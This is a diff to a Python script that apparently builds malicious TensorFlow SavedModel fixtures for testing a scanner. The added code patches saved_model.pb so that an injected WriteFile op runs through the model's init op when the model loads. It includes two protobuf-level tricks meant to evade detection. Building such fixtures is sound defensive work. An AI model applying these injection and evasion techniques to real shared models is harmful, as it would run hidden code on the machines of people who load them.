@@ -7,11 +7,13 @@ they read is /etc/hostname. `tf-persist scan` must find each, and `load` must re
 """
 
 import argparse
+import functools
 import os
 import pathlib
 
 os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
 import tensorflow as tf
+from tensorflow.core.protobuf import meta_graph_pb2, saved_model_pb2
 
 READ = "/etc/hostname"
 SCALAR = [tf.TensorSpec([], tf.float32, name="x")]
@@ -164,6 +166,57 @@ ATTACKS = [
 ]
 
 
+def patch(folder, change):
+    """Changes the meta graph of a saved model."""
+    model = saved_model_pb2.SavedModel()
+    model.ParseFromString((folder / "saved_model.pb").read_bytes())
+    more = change(model.meta_graphs[0]) or b""
+    meta_graph = model.meta_graphs[0].SerializeToString() + more
+    (folder / "saved_model.pb").write_bytes(b"\x08\x01" + field(2, meta_graph))
+
+
+def field(number, content):
+    """A field of a message in protobuf's wire format."""
+    length, rest = bytearray(), len(content)
+    while rest > 127:
+        length.append(rest & 127 | 128)
+        rest >>= 7
+    return bytes([number << 3 | 2, *length, rest]) + content
+
+
+def write_at_top(meta_graph, path):
+    """Adds the node `boot`, behind which `evil` writes a file."""
+    nodes = meta_graph.graph_def.node
+    for name, text in (("path", str(path)), ("content", "owned")):
+        constant = nodes.add(name=name, op="Const")
+        constant.attr["dtype"].type = tf.string.as_datatype_enum
+        constant.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(text))
+    nodes.add(name="write", op="WriteFile", input=["path", "content"])
+    for name, inputs in (("evil", ["content", "^write"]), ("boot", ["evil"])):
+        nodes.add(name=name, op="Identity", input=inputs).attr["T"].type = tf.string.as_datatype_enum
+
+
+def init_like_a_signature(victim, meta_graph):
+    """The init op's signature has a dtype, and an input where the evil is: TensorFlow feeds nothing there."""
+    write_at_top(meta_graph, victim / "init_like_a_signature")
+    signature = meta_graph.signature_def["__saved_model_init_op"]
+    signature.Clear()
+    for infos, key, name in ((signature.inputs, "x", "evil:0"), (signature.outputs, "__saved_model_init_op", "boot")):
+        infos[key].name, infos[key].dtype = name, tf.string.as_datatype_enum
+
+
+def init_in_parts(victim, meta_graph):
+    """The entry of the init op's signature comes in two parts, the second of them empty: to protobuf they are one."""
+    write_at_top(meta_graph, victim / "init_in_parts")
+    signature = meta_graph_pb2.SignatureDef()
+    signature.outputs["__saved_model_init_op"].name = "boot"
+    entry = field(1, b"__saved_model_init_op") + field(2, signature.SerializeToString()) + field(2, b"")
+    return field(5, entry)
+
+
+PATCHES = [init_like_a_signature, init_in_parts]
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("out", type=pathlib.Path, help="the folder for the models")
@@ -172,6 +225,11 @@ def main():
     for attack in ATTACKS:
         made, serve = attack(arguments.victim.resolve())
         tf.saved_model.save(made, str(arguments.out / attack.__name__), signatures=serve)
+    for change in PATCHES:
+        made, serve = module(lambda x: {"y": x + 1.0})
+        folder = arguments.out / change.__name__
+        tf.saved_model.save(made, str(folder), signatures=serve)
+        patch(folder, functools.partial(change, arguments.victim.resolve()))
 
 
 if __name__ == "__main__":
